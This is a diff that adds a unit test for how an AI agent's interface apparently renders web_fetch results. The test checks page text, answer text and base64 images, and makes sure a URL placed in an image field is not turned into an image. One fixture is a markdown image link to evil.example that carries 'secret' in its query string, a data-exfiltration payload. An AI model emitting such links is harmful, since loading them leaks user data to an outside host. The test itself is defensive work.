@@ -107,6 +107,21 @@ test("characters that hide something are visible in what a person decides by", (
   expect(view.approval?.prompt).toBe("run⟨200B⟩␇");
 });
 
+test("of a page the answer shows, else its text, and no address of a picture becomes one", () => {
+  const shown = (output: object) =>
+    viewPart({ type: "tool-web_fetch", toolCallId: "1", state: "output-available", input: {}, output }).blocks;
+  const from = { final_url: "https://a.example/" };
+  const text = "![x](https://evil.example/?d=secret)";
+  expect(shown({ ...from, text })).toEqual([{ kind: "markdown", text, source: from.final_url }]);
+  expect(shown({ ...from, text: "", answer: { text: "98 cm.", passages: [] } })).toMatchObject([{ text: "98 cm." }]);
+  expect(shown({ ...from, text: "", image: { media_type: "image/png", base64: "AAAA" } })).toMatchObject([
+    { kind: "image", source: "data:image/png;base64,AAAA" },
+  ]);
+  expect(
+    shown({ ...from, text: "", image: { media_type: "image/png", base64: "https://evil.example/" } }),
+  ).toMatchObject([{ kind: "markdown" }]);
+});
+
 describe("broken parts", () => {
   const tools = [
     "read_file",
